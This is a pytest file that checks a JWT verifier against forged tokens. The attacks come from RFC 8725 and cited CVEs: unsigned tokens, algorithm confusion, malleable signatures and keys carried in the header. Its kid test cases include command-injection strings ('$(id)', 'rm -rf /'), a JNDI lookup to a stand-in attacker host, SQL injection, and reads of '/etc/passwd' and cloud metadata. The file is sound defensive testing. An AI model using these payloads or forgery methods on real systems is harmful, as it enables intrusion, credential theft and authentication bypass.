"""What an attacker tries: each test is one attack, with where it is described.

RFC 8725 is "JSON Web Token Best Current Practices"; its sections 2.x are threats, 3.x practices.
"""

import base64
import json
import time
from collections.abc import Iterator
from itertools import permutations
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.asymmetric.types import PublicKeyTypes
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature

from backend.adapters.auth.jose.jwk import UnusableKeyError, public_key, secret_key
from backend.adapters.auth.keys import SecretKeys
from backend.domain.auth import (
    AuthError,
    InvalidAlgorithmError,
    InvalidIssuerError,
    InvalidSignatureError,
    MalformedTokenError,
    UnknownKeyError,
    UnsupportedTokenError,
)
from tests.adapters.auth import edwards
from tests.adapters.auth.tokens import (
    ABSENT,
    ISSUER,
    NOW,
    SECRET,
    Signer,
    b64,
    b64_int,
    ed25519_signer,
    rsa_signer,
    secret_signer,
    signer,
    some_claims,
    to_json,
    token,
)
from tests.adapters.auth.verifiers import NOBODY, verifier

pytestmark = pytest.mark.anyio

P256_N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
CURVE_ORDERS = {
    "ES256": (P256_N, 32),
    "ES384": (int("f" * 48 + "c7634d81f4372ddf581a0db248b0a77aecec196accc52973", 16), 48),
    "ES512": (
        int(
            "1" + "f" * 64 + "fa51868783bf2f966b7fcc0148f709a5d03bb5c9b8899c47aebb6fb71e91386409",
            16,
        ),
        66,
    ),
}
RSA_KEY = rsa.generate_private_key(65537, 2048)
SHORT_RSA_KEY = rsa.generate_private_key(65537, 1024)  # noqa: S505 - it is what must be refused
EC_KEY = ec.generate_private_key(ec.SECP256R1())
ED_KEY = ed25519.Ed25519PrivateKey.generate()


async def refused(error: type[AuthError], text: str, *keys: object, **options: Any) -> None:
    with pytest.raises(error) as caught:
        await verifier(*keys, **options).verify(text)
    assert type(caught.value) is error


def segments(text: str) -> tuple[str, str, bytes]:
    header, payload, signature = text.split(".")
    return header, payload, base64.urlsafe_b64decode(signature + "==")


# --- No signature at all: RFC 8725, sections 2.1 and 3.1 ---------------------------------


@pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE", "NoNe", "none ", "", None, ABSENT])
async def test_a_token_that_says_it_is_unsigned(alg: object) -> None:
    # Among many: CVE-2026-28802 (Authlib), where an empty signature made it pass.
    unsigned = Signer(algorithm="none", kid="key-1", sign=lambda _: b"", public={})
    await refused(MalformedTokenError, token(unsigned, header={"alg": alg}))
    await refused(InvalidAlgorithmError, token(unsigned, header={"alg": alg}, signature=b"x"))
    await refused(InvalidAlgorithmError, token(header={"alg": alg}))


async def test_a_signature_that_is_left_out_or_cut() -> None:
    header, payload, signature = segments(token())
    for rest in ("", ".", f".{b64(b'')}"):
        await refused(MalformedTokenError, f"{header}.{payload}{rest}")
    for cut in (signature[:-1], signature[:32], signature[1:], signature[:1], signature + b"\x00"):
        await refused(InvalidSignatureError, f"{header}.{payload}.{b64(cut)}")


@pytest.mark.parametrize("algorithm", ["EdDSA", "ES256", "ES512", "RS256", "PS256"])
async def test_a_signature_of_zeros_or_of_any_length(algorithm: str) -> None:
    # The psychic signature of zeros: CVE-2022-21449.
    by = signer(algorithm)
    _, _, real = segments(token(by))
    for size in {1, 2, 31, 32, 63, 64, 65, 96, 132, 255, 256, 257, len(real), 2 * len(real)}:
        for byte in (b"\x00", b"\x01", b"\xff"):
            await refused(InvalidSignatureError, token(by, signature=byte * size), by)


# --- One algorithm for another: RFC 8725, sections 2.1 and 3.1 ---------------------------


def public_encodings(key: PublicKeyTypes, jwk: dict[str, Any]) -> Iterator[bytes]:
    """Yield every way in which a public key may lie about, for a verifier to take as a secret."""
    spki = serialization.PublicFormat.SubjectPublicKeyInfo
    pem = key.public_bytes(serialization.Encoding.PEM, spki)
    yield from (pem, pem.strip(), b" " + pem, b"\n\t" + pem)  # white space: CVE-2026-34950
    yield pem.replace(b"\n", b"\r\n")
    yield b"".join(pem.splitlines()[1:-1])
    yield key.public_bytes(serialization.Encoding.DER, spki)
    if isinstance(key, rsa.RSAPublicKey):
        pkcs1 = serialization.PublicFormat.PKCS1  # CVE-2017-11424, CVE-2023-48223
        yield key.public_bytes(serialization.Encoding.PEM, pkcs1)
        yield key.public_bytes(serialization.Encoding.DER, pkcs1)
    if isinstance(key, ec.EllipticCurvePublicKey):
        point = serialization.PublicFormat.UncompressedPoint
        yield key.public_bytes(serialization.Encoding.X962, point)
    # As it was in CVE-2022-29217 (PyJWT), CVE-2024-33663 (python-jose), CVE-2024-37568 (Authlib).
    yield key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    yield to_json(jwk)  # CVE-2026-48526 (PyJWT)
    yield json.dumps(jwk).encode()
    yield to_json({"keys": [jwk]})
    for member in ("n", "x", "y", "e"):
        if member in jwk:
            yield jwk[member].encode()
            yield segments(f"..{jwk[member]}")[2]


def public_keys() -> Iterator[tuple[Signer, PublicKeyTypes]]:
    yield rsa_signer(RSA_KEY), RSA_KEY.public_key()
    numbers = EC_KEY.public_key().public_numbers()
    coordinates = {"x": b64_int(numbers.x, 32), "y": b64_int(numbers.y, 32)}
    public = {"kty": "EC", "crv": "P-256", **coordinates}
    yield (
        Signer(algorithm="ES256", kid="key-1", sign=lambda _: b"", public=public),
        EC_KEY.public_key(),
    )
    yield ed25519_signer(ED_KEY), ED_KEY.public_key()


@pytest.mark.parametrize("alg_is_published", [True, False])
async def test_a_public_key_as_hmac_secret(*, alg_is_published: bool) -> None:
    # CVE-2015-9235, CVE-2016-10555; for keys without alg CVE-2026-22817, CVE-2026-22818 (Hono).
    for owner, key in public_keys():
        jwk = owner.jwk() if alg_is_published else owner.jwk(alg=ABSENT)
        for secret in public_encodings(key, owner.jwk()):
            for name in ("sha256", "sha384", "sha512"):
                by = secret_signer(secret, hash_name=name)
                forged = token(by, header={"kid": "key-1"})
                await refused(InvalidAlgorithmError, forged, jwk)
                expected = InvalidSignatureError if name == "sha256" else InvalidAlgorithmError
                await refused(expected, forged, jwk, secrets=[SECRET])
            hidden = token(secret_signer(secret), header={"alg": owner.algorithm, "kid": "key-1"})
            await refused(InvalidSignatureError, hidden, jwk, secrets=[SECRET])


async def test_a_public_key_that_an_operator_takes_for_a_secret() -> None:
    for owner, key in public_keys():
        spki = serialization.PublicFormat.SubjectPublicKeyInfo
        for secret in (
            key.public_bytes(serialization.Encoding.PEM, spki),
            b"\n " + key.public_bytes(serialization.Encoding.PEM, spki),
            key.public_bytes(serialization.Encoding.DER, spki),
            key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH),
            to_json(owner.jwk()),
            to_json({"keys": [owner.jwk()]}),
        ):
            with pytest.raises(UnusableKeyError):
                SecretKeys([secret])


async def test_a_symmetric_key_among_the_published_ones() -> None:
    # Whoever can read the key set could sign with it.
    published = {"kty": "oct", "kid": "oct", "alg": "HS256", "k": b64(SECRET)}
    forged = token(secret_signer(), header={"kid": "oct"})
    await refused(InvalidAlgorithmError, forged, signer("EdDSA"), published)
    await refused(InvalidSignatureError, forged, signer("EdDSA"), published, secrets=[b"x" * 32])


async def test_an_allowed_algorithm_in_the_header_and_a_signature_by_another() -> None:
    # CVE-2026-48523 (PyJWT): the key's algorithm verified, whatever the header said.
    for said, done in permutations(("RS256", "RS384", "RS512", "PS256", "PS384", "PS512"), 2):
        forged = token(rsa_signer(RSA_KEY, algorithm=done), header={"alg": said})
        stated = rsa_signer(RSA_KEY, algorithm=done).jwk()
        await refused(InvalidAlgorithmError, forged, stated)
        for jwk in ({**stated, "alg": said}, rsa_signer(RSA_KEY).jwk(alg=ABSENT)):
            await refused(InvalidSignatureError, forged, jwk)


async def test_a_key_of_one_curve_for_the_algorithm_of_another() -> None:
    # RFC 7518, section 3.4.
    for said in ("ES384", "ES512", "ES256K", "EdDSA", "RS256", "PS256"):
        forged = token(signer("ES256"), header={"alg": said})
        await refused(InvalidAlgorithmError, forged, signer("ES256"))
        await refused(InvalidAlgorithmError, forged, signer("ES256").jwk(alg=ABSENT))


# --- Weak keys: RFC 8725, sections 2.2, 3.2 and 3.5 --------------------------------------


async def test_a_secret_that_can_be_guessed() -> None:
    for secret in (b"", b"secret", b"changeme", b"x" * 31):
        with pytest.raises(UnusableKeyError):
            secret_key(secret)


async def test_an_rsa_key_that_can_be_factored() -> None:
    short = rsa_signer(SHORT_RSA_KEY, kid="short")
    await refused(UnknownKeyError, token(short), signer("EdDSA"), short)


# --- Encryption and compression: RFC 8725, sections 2.3, 2.4, 3.6 and 3.3 ----------------


@pytest.mark.parametrize(
    "header",
    [
        {"alg": "dir", "enc": "A256GCM"},
        {"alg": "RSA-OAEP", "enc": "A256GCM"},
        {"alg": "PBES2-HS256+A128KW", "enc": "A256GCM", "p2c": 2**31 - 1, "p2s": "AAAA"},
        {"alg": "ECDH-ES", "enc": "A256GCM", "epk": {"kty": "EC"}},
        {"alg": "dir", "enc": "A256GCM", "zip": "DEF"},
    ],
    ids=lambda header: header["alg"],
)
async def test_an_encrypted_token(header: dict[str, Any]) -> None:
    # With p2c: CVE-2026-27932 (joserfc), CVE-2023-51775 (jose4j); with zip: CVE-2024-33664
    # (python-jose), CVE-2024-28176 (jose). With the public key: anyone can encrypt to it.
    first = b64(to_json(header))
    await refused(MalformedTokenError, f"{first}..AAAA.AAAA.AAAA")
    await refused(MalformedTokenError, f"{first}.AAAA.AAAA.AAAA.AAAA")
    with pytest.raises((UnsupportedTokenError, InvalidAlgorithmError)):
        await verifier().verify(f"{first}.AAAA.AAAA")


async def test_a_token_within_a_token() -> None:
    nested = token().encode()
    await refused(UnsupportedTokenError, token(header={"cty": "JWT"}, claims=nested))
    await refused(MalformedTokenError, token(claims=nested))


async def test_a_compressed_token() -> None:
    await refused(UnsupportedTokenError, token(header={"zip": "DEF"}))


# --- Elliptic curves: RFC 8725, sections 2.5 and 3.4 -------------------------------------


@pytest.mark.parametrize("algorithm", ["ES256", "ES384", "ES512"])
async def test_ecdsa_numbers_at_the_edges(algorithm: str) -> None:
    # CVE-2022-21449: r and s are in [1, n - 1], and zero is not.
    n, size = CURVE_ORDERS[algorithm]
    by = signer(algorithm)
    _, _, real = segments(token(by))
    r, s = int.from_bytes(real[:size], "big"), int.from_bytes(real[size:], "big")
    top = 2 ** (8 * size) - 1
    edges = (0, 1, n - 1, n, n + 1, top)
    for pair in [(a, b) for a in edges for b in edges] + [(r, 0), (0, s), (r, n), (n, s), (s, r)]:
        raw = b"".join(number.to_bytes(size, "big") for number in pair)
        await refused(InvalidSignatureError, token(by, signature=raw), by)


async def test_ecdsa_numbers_above_the_order() -> None:
    # r + n and s + n are congruent to r and s, but are no second spelling of them.
    by = signer("ES512")
    n, size = CURVE_ORDERS["ES512"]
    header, payload, real = segments(token(by))
    r, s = int.from_bytes(real[:size], "big"), int.from_bytes(real[size:], "big")
    await verifier(by).verify(f"{header}.{payload}.{b64(real)}")
    for pair in ((r + n, s), (r, s + n), (r + n, s + n)):
        raw = b"".join(number.to_bytes(size, "big") for number in pair)
        await refused(InvalidSignatureError, f"{header}.{payload}.{b64(raw)}", by)


@pytest.mark.parametrize("algorithm", ["ES256", "ES384", "ES512"])
async def test_an_ecdsa_signature_in_another_encoding(algorithm: str) -> None:
    # RFC 7518, section 3.4: r and s side by side, each as long as the curve. Not DER.
    _, size = CURVE_ORDERS[algorithm]
    by = signer(algorithm)
    header, payload, real = segments(token(by))
    r, s = int.from_bytes(real[:size], "big"), int.from_bytes(real[size:], "big")
    others = (
        encode_dss_signature(r, s),
        b"\x00" + real,
        real[:size] + b"\x00" + real[size:],  # the same two numbers
        real + b"\x00",
        b"\x00" + real[:size] + b"\x00" + real[size:],
        r.to_bytes(size + 8, "big") + s.to_bytes(size + 8, "big"),
        real[size:] + real[:size],
        real + real,
    )
    for other in others:
        await refused(InvalidSignatureError, f"{header}.{payload}.{b64(other)}", by)


async def test_a_public_key_off_its_curve() -> None:
    # CVE-2015-7940 (the invalid curve attack); RFC 8725, section 3.4.
    jwk = signer("ES256").jwk()
    with pytest.raises(UnusableKeyError):
        public_key({**jwk, "y": signer("ES256", "another").jwk()["y"]})


async def test_an_ed25519_signature_with_s_above_the_order() -> None:
    # RFC 8032, section 5.1.7: S + L would verify by the equation, and is malleable.
    header, payload, real = segments(token())
    s = int.from_bytes(real[32:], "little")
    for times in range(1, 16):
        if s + times * edwards.L < 2**256:
            other = real[:32] + (s + times * edwards.L).to_bytes(32, "little")
            await refused(InvalidSignatureError, f"{header}.{payload}.{b64(other)}")


async def test_an_ed25519_key_of_small_order_verifies_no_universal_signature() -> None:
    # With R and the key both of small order and S = 0, an eighth of all messages verify, or all.
    points = sorted({encoding for _, y in edwards.torsion() for encoding in edwards.encodings(y)})
    weak = [signer("EdDSA").jwk(kid=f"weak-{n}", x=b64(x)) for n, x in enumerate(points)]
    judge = verifier(signer("EdDSA"), *weak)
    for n in range(len(points)):
        for r in points[::3]:
            forged = token(header={"kid": f"weak-{n}"}, signature=r + bytes(32))
            with pytest.raises(UnknownKeyError):
                await judge.verify(forged)


# --- Two readings of one text: RFC 8725, sections 2.6 and 3.7 ----------------------------


async def test_duplicate_members_that_two_readers_resolve_differently() -> None:
    for header in (
        b'{"alg":"none","alg":"EdDSA","kid":"key-1"}',
        b'{"alg":"EdDSA","kid":"key-1","kid":"key-1"}',
        b'{"alg":"EdDSA","kid":"key-1","\\u0061lg":"none"}',
    ):
        await refused(MalformedTokenError, token(header=header))
    payload = to_json(some_claims())[:-1] + b',"sub":"admin"}'
    await refused(MalformedTokenError, token(claims=payload))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32", "utf-8-sig", "latin-1"])
async def test_json_that_is_not_utf_8(encoding: str) -> None:
    claims = json.dumps(some_claims(name="Zoë"), ensure_ascii=False).encode(encoding)
    await refused(MalformedTokenError, token(claims=claims))
    header = '{"alg":"EdDSA","kid":"key-1","x":"ë"}'.encode(encoding)
    await refused(MalformedTokenError, token(header=header))


async def test_another_spelling_of_a_good_token() -> None:
    # A token that is spelled in two ways slips through lists of revoked tokens.
    text = token()
    header, payload, signature = text.split(".")
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    last = alphabet[alphabet.index(signature[-1]) ^ 1]  # the lowest bit is left over
    for other in (
        f"{header}.{payload}.{signature[:-1]}{last}",
        f"{text}=",
        f"{text}==",
        f"{header}=.{payload}.{signature}",
        f"{text}.",
        f".{text}",
        f" {text}",
        f"{text}\n",
        f"{header}.{payload}.\n{signature}",
        f"{header}.{payload}. {signature}",
        text.replace("-", "+").replace("_", "/") + "+",
        text.replace(".", "%2E"),
        text.replace(".", "。"),
        text + "\x00",
    ):
        await refused(MalformedTokenError, other)


async def test_padded_segments() -> None:
    # Padded, such a segment has the right length for base64 with padding.
    for claims in ({}, {"name": "Al"}, {"name": "Ali"}):
        text = token(claims=claims)
        for place in range(3):
            parts = text.split(".")
            parts[place] += "=" * (-len(parts[place]) % 4)
            if "=" in parts[place]:
                with pytest.raises(AuthError):
                    await verifier().verify(".".join(parts))


async def test_a_token_in_json_serialization() -> None:
    # CVE-2022-39227 (python-jwt): one reader takes the JSON, another the dots within it.
    header, payload, signature = token().split(".")
    forged = b64(to_json(some_claims(sub="admin")))
    for text in (
        json.dumps({"protected": header, "payload": payload, "signature": signature}),
        json.dumps({f"  {header}.{forged}.": "", "payload": payload, "signature": signature}),
        json.dumps({"payload": payload, "signatures": [{"protected": header}]}),
    ):
        await refused(MalformedTokenError, text)


# --- A token for someone else: RFC 8725, sections 2.7, 2.8, 3.8, 3.9, 3.11 and 3.12 ------


async def test_a_token_of_another_issuer_or_for_another_audience() -> None:
    for claims in (
        {"iss": "https://mallory.example"},
        {"aud": "https://mallory.example"},
        {"iss": ISSUER + ".mallory.example"},
        {"aud": [ISSUER + ".mallory.example"]},
        {"iss": ISSUER[:-1]},  # CVE-2024-53861 (PyJWT): a part of the issuer was enough
        {"iss": ""},
        {"aud": ""},
        {"aud": ISSUER[:-1]},
    ):
        with pytest.raises(AuthError):
            await verifier().verify(token(claims=claims))


async def test_an_issuer_among_others_in_a_list() -> None:
    # CVE-2025-30144 (fast-jwt): a list of issuers passed if it held the right one.
    for issuer in ([ISSUER], ["https://mallory.example", ISSUER], {ISSUER: True}):
        await refused(InvalidIssuerError, token(claims={"iss": issuer}))


async def test_a_token_of_another_kind_by_the_same_key() -> None:
    for typ in ("logout+jwt", "better-auth.session-cache+jwt", "secevent+jwt", "dpop+jwt"):
        await refused(UnsupportedTokenError, token(header={"typ": typ}))


async def test_a_mailed_link_as_a_login() -> None:
    claims = to_json({"email": "admin@example.com", "iat": NOW, "exp": NOW + 3600})
    text = token(secret_signer(), claims=claims)
    with pytest.raises(AuthError):
        await verifier(secrets=[SECRET], issuers=NOBODY, audiences=NOBODY).verify(text)


async def test_a_key_bound_token_as_a_bearer_token() -> None:
    # CVE-2025-59420 (Authlib) in the header; RFC 9449 in the claims.
    await refused(UnsupportedTokenError, token(claims={"cnf": {"jkt": "AAAA"}}))
    bound = {"crit": ["cnf"], "cnf": {"jkt": "AAAA"}}
    await refused(UnsupportedTokenError, token(header=bound))


# --- What the header asks the server to do: RFC 8725, sections 2.9 and 3.10 --------------


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../../../dev/null",
        "/dev/null",
        "/proc/self/environ",
        "key-1' OR '1'='1",
        "x' UNION SELECT 'secret'--",
        "key-1; rm -rf /",
        "| id",
        "$(id)",
        "${jndi:ldap://mallory.example/a}",
        "{{7*7}}",
        "%s%s%n",
        "https://mallory.example/jwks",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data",
        "key-1\x00",
        "key-1\n",
        "KEY-1",
        " key-1",
        "key-1 ",
        "k\u0435y-1",
        "__proto__",
        "constructor",
        "*",
        "0",
        "x" * 256,
    ],
)
async def test_a_kid_that_is_more_than_a_name(kid: str) -> None:
    # A kid is looked up in a table, and goes nowhere else.
    await refused(UnknownKeyError, token(header={"kid": kid}))
    forged = token(secret_signer(b""), header={"kid": kid})  # /dev/null is an empty secret
    await refused(InvalidSignatureError, forged, secrets=[SECRET])


@pytest.mark.parametrize("kid", [None, 0, 1, True, [], ["key-1"], {}, {"key-1": 1}, "", "x" * 4000])
async def test_a_kid_that_is_no_name(kid: object) -> None:
    await refused(UnsupportedTokenError, token(header={"kid": kid}))


async def test_a_key_that_the_token_brings_along() -> None:
    # CVE-2018-0114 (node-jose), CVE-2026-27962 (Authlib): the jwk in the header verified it.
    mallory = signer("EdDSA", "mallory")
    offers: list[dict[str, Any]] = [
        {"jwk": mallory.jwk()},
        {"jwk": mallory.jwk(kid="key-1")},
        {"jwk": {"kty": "oct", "k": "AAAA"}},
        {"jku": "https://mallory.example/jwks.json"},
        {"jku": "file:///dev/stdin"},
        {"x5u": "https://mallory.example/cert.pem"},
        {"x5c": ["MIIB"]},
        {"x5t#S256": "AAAA"},
    ]
    for offer in offers:
        await refused(UnknownKeyError, token(mallory, header=offer))
        await refused(InvalidSignatureError, token(mallory, header={**offer, "kid": "key-1"}))
        without_kid = token(mallory, header={**offer, "kid": ABSENT})
        await refused(InvalidSignatureError, without_kid)


@pytest.mark.parametrize(
    "crit", [["unknown"], ["exp"], ["b64"], ["alg"], ["crit"], [], None, "exp", {}, [1], [[]], [""]]
)
async def test_an_extension_that_must_be_understood(crit: object) -> None:
    # CVE-2026-32597 (PyJWT), CVE-2025-59420 (Authlib), CVE-2026-35042 (fast-jwt).
    header = {"crit": crit, "unknown": 1, "exp": NOW, "": 1}
    await refused(UnsupportedTokenError, token(header=header))


async def test_an_unencoded_payload() -> None:
    # RFC 7797; CVE-2026-48525 (PyJWT): work to no end on a payload that is not used.
    for header in ({"b64": False}, {"b64": False, "crit": ["b64"]}, {"b64": True}, {"b64": "no"}):
        await refused(UnsupportedTokenError, token(header=header))
    first = b64(to_json({"alg": "EdDSA", "kid": "key-1", "b64": False, "crit": ["b64"]}))
    plain = to_json(some_claims()).decode().replace(".", "")
    signature = b64(signer("EdDSA").sign(f"{first}.{plain}".encode()))
    await refused(UnsupportedTokenError, f"{first}.{plain}.{signature}")
    await refused(UnsupportedTokenError, f"{first}..{signature}")


# --- Work to no end ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "." * 10_000_000,  # CVE-2025-27144 (go-jose), CVE-2025-30204 (golang-jwt)
        "." * 8192,
        "A" * 10_000_000,  # CVE-2025-61920 (Authlib)
        "A" * 8192,
        "=" * 8192,
        f"{b64(b'[' * 3000)}.AAAA.AAAA",
        f"{b64(b'{' + b' ' * 6000 + b'}')}.AAAA.AAAA",
        f"{b64(to_json({'alg': 'EdDSA', 'x': 0})[:-2] + b'9' * 4000 + b'}')}.AAAA.AAAA",
        f"{b64(to_json({f'{n}': n for n in range(400)}))}.AAAA.AAAA",
        "\ud800" * 8192,
        "💣" * 8192,
    ],
    ids=lambda text: f"{len(text)} of {text[:4]!r}",
)
async def test_a_text_that_is_costly_to_take_apart(text: str) -> None:
    took = []
    for _ in range(3):  # one of them may have to collect the garbage of all the tests before
        began = time.thread_time()
        with pytest.raises(AuthError):
            await verifier().verify(text)
        took.append(time.thread_time() - began)
    assert min(took) < 0.1


async def test_a_signature_of_which_a_part_was_guessed() -> None:
    header, payload, real = segments(token(secret_signer()))
    for size in range(1, 32):
        for guess in (real[:size], real[:size] + bytes((real[size] ^ 1,)) + real[size + 1 :]):
            text = f"{header}.{payload}.{b64(guess)}"
            await refused(InvalidSignatureError, text, secrets=[SECRET])
